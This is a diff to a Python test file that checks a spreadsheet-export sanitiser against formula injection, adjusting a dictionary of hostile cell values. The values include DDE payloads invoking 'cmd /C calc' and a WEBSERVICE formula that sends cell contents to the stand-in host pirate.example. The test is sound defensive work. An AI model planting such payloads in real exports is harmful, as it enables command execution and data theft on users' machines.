@@ -6,6 +6,7 @@ from datetime import datetime, timedelta
 
 import pytest
 
+from assembly.people.contact import parse_contact
 from assembly.web.spreadsheet import FORMULA_STARTS, safe_cell
 from tests.test_access_matrix import build_url
 
@@ -16,7 +17,7 @@ HOSTILE = {
     "place": "-2+3+cmd|' /C calc'!A0",
     "theme": "@SUM(1+1)*cmd|' /C calc'!A0",
     "author_name": "\t=1+1",
-    "contact": "\r=1+1",
+    "contact": "=1+1@example.org",  # an e-mail address may start so
     "status_reason": "=2+5",
     "question": '=WEBSERVICE("http://pirate.example/"&A1)',
     "option": '+HYPERLINK("http://pirate.example")',
@@ -71,7 +72,8 @@ def hostile_records(app, world, clock) -> None:
             theme=add_theme(group, HOSTILE["theme"]),
             channel=Channel.PAPER,
             author_name=HOSTILE["author_name"],
-            contact=HOSTILE["contact"],
+            contact=parse_contact(HOSTILE["contact"]),
+            wording="J’accepte (test).",
             trusted=True,
         )
         set_status(need, NeedStatus.TAKEN_UP, HOSTILE["status_reason"])
